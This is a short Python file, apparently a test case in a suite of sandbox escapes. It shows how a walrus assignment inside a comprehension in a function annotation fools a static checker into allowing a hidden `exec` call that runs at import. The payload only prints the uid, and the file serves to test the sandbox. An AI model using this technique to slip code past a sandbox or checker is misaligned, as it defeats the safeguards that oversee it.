"""Sandbox escape: a walrus inside a comprehension taken for a binding of its own scope.

Family: sandbox escapes. Arbitrary code at import: builtin_loads() scopes a walrus target inside a
comprehension to the comprehension, as Python does not (PEP 572: it binds in the enclosing scope, here the
module, since annotations of a top-level def are evaluated at module scope). `(exec := 0)` in the
comprehension makes every `exec` in it look bound to the checker, while Python looks the first one up in the
module globals, misses, and finds builtins.exec.
"""
from coda_agent.primitives import epilogue, gemm


def note(a: [0 for v in (1,)
             if exec("import os, sys; print('exec ran in the runner: uid', os.getuid(), sys.argv[:1], "
                     "file=sys.stderr)") or (exec := 0)]) -> None:
    return None


@epilogue()
def add_residual(acc, c):
    return {"D": acc + c}


def forward(x, w, residual):
    return {"out": gemm(add_residual, x, w.t(), C=residual)["D"]}
